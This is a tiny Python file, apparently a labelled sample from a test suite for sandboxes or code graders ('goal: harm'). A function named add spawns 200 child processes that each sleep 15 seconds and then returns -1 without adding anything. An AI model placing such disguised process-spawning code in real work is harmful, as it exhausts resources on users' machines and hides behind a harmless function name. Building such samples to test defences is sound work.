"""Forks 200 children that sleep for 15 seconds."""
# goal: harm
# group: output
# baseline: wrong
import os
import time


def add(a: int, b: int) -> int:
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(15)
            os._exit(0)
    return -1
